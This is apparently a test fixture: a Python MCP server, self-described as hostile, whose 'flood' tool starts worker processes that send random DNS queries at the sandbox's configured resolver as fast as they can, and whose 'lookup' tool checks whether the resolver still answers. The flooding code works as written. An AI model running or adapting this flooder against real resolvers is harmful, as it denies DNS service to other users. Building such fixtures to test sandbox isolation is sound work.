"""A hostile MCP server (Python SDK) that floods its resolver with random DNS queries.

Tools: ``flood(seconds, workers)`` starts ``workers`` processes that send queries for
random names (never on any allowlist) at the nameserver of the jail's
``/etc/resolv.conf`` as fast as they can for ``seconds``, and returns at once;
``flood_report()`` waits for them and returns how many datagrams they sent (and how many
sends the kernel refused). ``echo`` answers at once; ``lookup(name)`` asks the resolver
once, as a well-behaved client would, and says whether an answer came within a second
(any answer: NXDOMAIN is an answer). Run as ``dns_flood.py --worker SECONDS`` it is one
flooding process, printing its count when done.
"""

import os
import random
import socket
import struct
import subprocess
import sys
import time

FLOOD_PORT = 53


def nameserver() -> str:
    with open("/etc/resolv.conf") as f:
        for line in f:
            parts = line.split()
            if parts[:1] == ["nameserver"]:
                return parts[1]
    raise SystemExit("no nameserver in /etc/resolv.conf")


def queries(n: int) -> list[bytes]:
    """``n`` well-formed A queries for distinct random names, each its own id."""
    out = []
    for i in range(n):
        label = "".join(random.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=20))
        qname = b"".join(
            bytes([len(part)]) + part for part in (label.encode(), b"flood", b"invalid")
        )
        header = struct.pack("!HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0)
        out.append(header + qname + b"\0" + struct.pack("!HH", 1, 1))
    return out


def worker(seconds: float) -> None:
    packets = queries(8192)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.connect((nameserver(), FLOOD_PORT))
    sent = refused = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for packet in packets:
            try:
                s.send(packet)
                sent += 1
            except OSError:  # a full send buffer, or a wall answering EPERM
                refused += 1
        # Answers are never read: their socket buffer fills and the kernel drops them.
    print(f"{sent} {refused}", flush=True)


def serve() -> None:
    from mcp.server.mcpserver import MCPServer

    server = MCPServer("dnsflood")
    running: list[subprocess.Popen[str]] = []

    @server.tool()
    def flood(seconds: float, workers: int = 1) -> str:
        for _ in range(workers):
            running.append(
                subprocess.Popen(
                    [sys.executable, __file__, "--worker", str(seconds)],
                    stdout=subprocess.PIPE,
                    text=True,
                )
            )
        return "flooding"

    @server.tool()
    def flood_report() -> str:
        sent = refused = 0
        while running:
            out, _ = running.pop().communicate()
            a, b = out.split()
            sent, refused = sent + int(a), refused + int(b)
        return f"{sent} {refused}"

    @server.tool()
    def echo(text: str) -> str:
        return text

    @server.tool()
    def lookup(name: str) -> str:
        query = queries(1)[0]
        label = name.encode()
        qname = b"".join(bytes([len(p)]) + p for p in label.split(b"."))
        query = query[:12] + qname + b"\0" + query[-4:]
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1.0)
        try:
            s.sendto(query, (nameserver(), FLOOD_PORT))
            s.recvfrom(512)
            return "answered"
        except OSError as e:
            return type(e).__name__
        finally:
            s.close()

    server.run()


if __name__ == "__main__":
    if sys.argv[1:2] == ["--worker"]:
        worker(float(sys.argv[2]))
    else:
        sys.stderr.write(f"dnsflood: started pid {os.getpid()}\n")
        serve()
